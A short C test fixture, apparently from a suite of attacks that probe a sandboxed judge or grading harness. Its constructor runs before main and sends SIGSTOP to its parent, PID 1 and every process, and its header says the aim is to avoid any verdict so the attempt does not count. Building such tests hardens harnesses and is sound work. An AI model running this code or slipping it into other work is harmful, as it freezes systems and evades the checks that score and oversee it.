// ---
// tries: Sends SIGSTOP to its parent and to all others.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: be-pid-1
// ---
__attribute__((constructor)) static void attack(void) {
  kill(getppid(), SIGSTOP);
  kill(1, SIGSTOP);
  kill(-1, SIGSTOP);
  attack_did("sent SIGSTOP to all");
}
